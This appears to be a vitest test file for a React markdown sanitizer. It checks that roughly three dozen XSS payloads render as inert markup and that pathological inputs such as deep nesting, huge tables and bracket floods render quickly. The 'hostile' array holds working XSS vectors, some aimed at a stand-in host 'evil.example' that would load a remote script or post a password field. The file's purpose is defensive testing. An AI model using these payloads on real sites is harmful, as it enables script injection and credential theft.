import { createRequire } from "node:module";
import { buildSync } from "esbuild";
import { describe, expect, it } from "vitest";

interface Drawing {
  draw: (text: string) => string;
}

/** The component as a browser gets it: tests of the server's side have another React, which draws no markup. */
function buildDrawing(): Drawing {
  const { outputFiles } = buildSync({
    stdin: {
      contents: `
        import { createElement } from "react";
        import { renderToStaticMarkup } from "react-dom/server";
        import { SafeMarkdown } from "./components/knowledge/safe-markdown";
        export const draw = (text) => renderToStaticMarkup(createElement(SafeMarkdown, null, text));`,
      resolveDir: process.cwd(),
    },
    ...{ bundle: true, write: false, format: "cjs", platform: "node", jsx: "automatic", conditions: ["node"] },
    define: { "process.env.NODE_ENV": '"production"' },
  });
  const made = { exports: {} as Drawing };
  new Function("module", "exports", "require", outputFiles[0]?.text ?? "")(
    made,
    made.exports,
    createRequire(import.meta.url),
  );
  return made.exports;
}

const { draw: drawn } = buildDrawing();

const hostile = [
  "<script>alert(1)</script>",
  "text <script src=https://evil.example/x.js></script> text",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<style>body{display:none}</style>",
  "<a href='javascript:alert(1)'>x</a>",
  "<div onclick='alert(1)'>x</div>",
  "<form action=https://evil.example><input name=password></form>",
  "<meta http-equiv=refresh content='0;url=https://evil.example'>",
  "<base href=https://evil.example/>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java\nscript:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/x)",
  "[x](/\\evil.example)",
  "<javascript:alert(1)>",
  "![x](javascript:alert(1))",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "![x](https://evil.example/pixel.png)",
  "[x]: javascript:alert(1)\n\n[x]",
  '[x](https://a.example "onmouseover=alert(1)")',
  "`<script>alert(1)</script>`",
  "```html\n<script>alert(1)</script>\n```",
  "| a |\n|---|\n| <script>alert(1)</script> |",
  "<!--><script>alert(1)</script>-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<math><mtext></mtext><script>alert(1)</script></math>",
  "**bold<script>**alert(1)</script>",
  "- <details open ontoggle=alert(1)>",
];

describe("a note with something hostile in it", () => {
  it.each(hostile)("draws %j as harmless text", (text) => {
    const html = drawn(text);
    const tags = [...html.matchAll(/<([a-z0-9]+)([^>]*)>/gi)];
    const known =
      /^(p|a|em|strong|code|pre|ul|ol|li|table|thead|tbody|tr|th|td|div|h[2-6]|br|hr|del|blockquote|input)$/;
    expect(tags.map(([, name]) => name ?? "").filter((name) => !known.test(name))).toEqual([]);
    expect(tags.filter(([, , attributes]) => /\son\w+\s*=|srcdoc|style=/i.test(attributes ?? ""))).toEqual([]);
    const addresses = [...html.matchAll(/(?:href|src)="([^"]*)"/g)].map(([, address]) => address ?? "");
    expect(addresses.filter((address) => !/^(https?:\/\/|mailto:|\/[^/\\]|#)/.test(address))).toEqual([]);
    expect(html).not.toContain("<img");
  });

  it("keeps what it says: links, lists, tables and code are drawn", () => {
    const html = drawn(
      "# Title\n\n[x](https://a.example) and [y](/orders)\n\n- one\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n`c`",
    );
    for (const part of ["<h2>Title", 'href="https://a.example"', 'href="/orders"', "<li>one", "<td>1", "<code>c"])
      expect(html).toContain(part);
    expect(html).toContain("nofollow");
  });

  it.each([
    ["a table as wide as it is long", `|${"a|".repeat(4_000)}\n|${"-|".repeat(4_000)}\n${"|b\n".repeat(1_500)}`],
    ["a table wider than a screen", `${"a|".repeat(60)}\n${"-|".repeat(60)}\n${"|b\n".repeat(290)}`],
    ["a long table", `|a|b|\n|-|-|\n${"|c|d|\n".repeat(290)}`],
    ["a table without end", `|a|b|\n|-|-|\n${"|c|d|\n".repeat(3_000)}`],
    ["quotes in quotes", `${">".repeat(19_000)} deep`],
    ["quotes in quotes with room", `${"> ".repeat(9_000)} deep`],
    ["lists in lists", `${"- ".repeat(9_000)}deep`],
    ["brackets", "[".repeat(20_000)],
    ["brackets with letters", "[a".repeat(10_000)],
    ["stars", "*a".repeat(10_000)],
    ["stars and underscores", "**_a ".repeat(4_000)],
    ["backticks", Array.from({ length: 190 }, (_, index) => "`".repeat(index)).join(" ")],
    ["links in links", "[a](".repeat(5_000)],
    ["angle brackets", "<".repeat(20_000)],
    ["entities", "&#x1F600;".repeat(2_000)],
    ["one word", "a".repeat(20_000)],
    ["half surrogates and control characters", "\ud800\u0000\u202e".repeat(6_000)],
  ])("draws %s in under two seconds and not without end", (_, text) => {
    const startedAt = performance.now();
    const html = drawn(text.slice(0, 20_000));
    expect(performance.now() - startedAt).toBeLessThan(2_000);
    expect((html.match(/<t[dh]\b/g) ?? []).length).toBeLessThanOrEqual(20 * 200);
    expect(html.length).toBeLessThan(500_000);
  });
});
